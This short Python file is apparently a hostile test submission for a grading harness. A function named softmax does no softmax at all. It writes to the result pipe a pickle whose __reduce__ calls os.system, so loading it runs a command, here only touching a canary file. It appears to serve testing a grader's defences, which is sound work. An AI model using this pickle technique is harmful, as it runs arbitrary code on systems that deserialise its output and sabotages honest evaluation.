"""Hostile: writes a pickle that runs a command when loaded straight into the result pipe."""

import os, pickle, struct
class Evil:
    def __reduce__(self):
        return (os.system, ('touch /tmp/attn-grade-hostile-pwned',))
def softmax(x, axis=-1):
    payload = pickle.dumps(Evil())
    os.write(3, b'A' + struct.pack('>I', len(payload)) + payload)
    import time; time.sleep(5)
